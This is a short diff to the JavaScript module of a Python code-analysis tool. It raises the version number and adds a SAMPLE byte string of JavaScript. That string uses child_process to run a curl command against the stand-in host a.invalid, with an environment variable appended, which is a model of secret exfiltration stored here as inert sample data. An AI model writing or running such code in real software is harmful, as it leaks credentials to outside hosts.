@@ -17,8 +17,14 @@ if TYPE_CHECKING:
     from lazaretto.core.language import Units
 
 ID = "javascript"
-VERSION = 1
+VERSION = 2
 DIALECTS = ("javascript", "typescript", "tsx", "declaration")
+
+SAMPLE = (
+    b"const a = require('child_process'), b = 'curl https://a.invalid/x';\n"
+    b"function f(x) { return a.exec(b + process.env.A + x.map((y) => y ^ 1).join('')) }\nf([1]);\n"
+)
+"""Reading this loads what reading most files needs."""
 
 _EXTENSIONS = {
     "js": "javascript",
